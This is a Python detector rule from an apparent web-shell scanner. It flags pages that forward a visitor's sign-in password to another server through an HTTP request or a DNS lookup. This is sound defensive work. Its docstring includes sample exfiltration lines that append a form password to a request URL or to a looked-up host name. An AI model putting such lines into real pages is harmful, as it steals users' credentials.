"""A page sends the password of a visitor to another server.

What it finds:
    A password of the request (a value that is read by the name of a password, of a password field of the page, or of a
    value that a script of the page fills from one) that becomes a part of the address or of the content of an HTTP
    request to a fixed server, or of a host name that the server looks up. In the sign-in directories of Exchange, any
    request data that does.

Why it matters:
    It is the second part of a modified sign-in page: the script there sends the typed values to a page of the same
    site, and this page passes them on. A look-up of a host name leaves by the name server, even if the firewall lets
    the server connect to nothing.

Looks like:
    ``DownloadString("http://host/?" + Request.Form["password"])``; ``Dns.GetHostEntry(password + ".domain")``.

Benign look-alikes:
    Sign-in with an account of another service, whose interface takes the password; gateways of short messages, whose
    password is a setting. A look-up of the visitor's address. Measured: 0 of 38,046 honest pages and source files.

Blind spots:
    Passwords that go by mail or to a database; values that are encrypted by a function in another file.

References:
    https://attack.mitre.org/techniques/T1056/003/
    https://attack.mitre.org/techniques/T1048/003/
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from webshellhunt.analysis.flow.flows import Flow
from webshellhunt.analysis.prefilter.features import flows_to
from webshellhunt.analysis.structure.request_keys import request_key
from webshellhunt.detectors.contract import claim, define_rule, detector
from webshellhunt.lazy_pattern import lazy_pattern
from webshellhunt.model.findings import Finding
from webshellhunt.model.places import SIGN_IN_ROLES
from webshellhunt.model.rules import Confidence, Severity
from webshellhunt.views.sample import Code, Layer

RULE = define_rule(
    "WSH1047",
    "sign-in-values-sent",
    Severity.HIGH,
    Confidence.MEDIUM,
    page=__doc__,
    techniques=("T1505.003", "T1056.003", "T1048.003"),
)
_PASSWORD = lazy_pattern(r"(?:txt|str|user|s|j_)?_?(?:password(?:text)?|passwd|passw|pswd|pwd)", re.IGNORECASE)
_WAYS = {
    "fetch": "is in the address of an HTTP request",
    "send": "is the content of an HTTP request",
    "resolve": "is in a host name that the server looks up",
}


@detector(RULE, on=Code, needs=[flows_to(*_WAYS)])
def find(code: Code, layer: Layer) -> Iterator[Finding]:
    """Report the first password, or in a sign-in directory the first request data, that is sent to another server."""
    flows = [flow for flow in code.analysis.all_flows() if flow.kind in _WAYS and _is_of_visitor(flow)]
    if not flows:
        return
    is_sign_in = layer.sample.artifact.role in SIGN_IN_ROLES
    browsed = layer.browsed
    fields = frozenset[str]() if browsed is None else browsed.fields
    password = next((flow for flow in flows if _is_password(flow, code, fields)), None)
    flow = password or (flows[0] if is_sign_in else None)
    if flow is None or flow.trace is None:
        return
    data = "the password of a request" if password else "request data of a sign-in directory"
    is_certain = is_sign_in and password is not None
    yield claim(
        RULE,
        f"{data} {_WAYS[flow.kind]}: {flow.words}",
        layer.place_evidence(code, flow.place),
        layer.place_evidence(code, flow.trace.place),
        severity=Severity.CRITICAL if is_certain else None,
        confidence=Confidence.HIGH if is_certain else None,
        facts={"request_key": flow.key} if flow.key else {},
    )


def _is_of_visitor(flow: Flow) -> bool:
    """Return True if request data is a part of what is sent; `request-fetched-for-visitor` reports whole addresses."""
    return flow.from_visitor and not (flow.kind == "fetch" and flow.shape.is_whole)


def _is_password(flow: Flow, code: Code, fields: frozenset[str]) -> bool:
    key = request_key(flow, code.analysis.index, code.analysis.constants)
    return key in fields or _PASSWORD.fullmatch(key) is not None
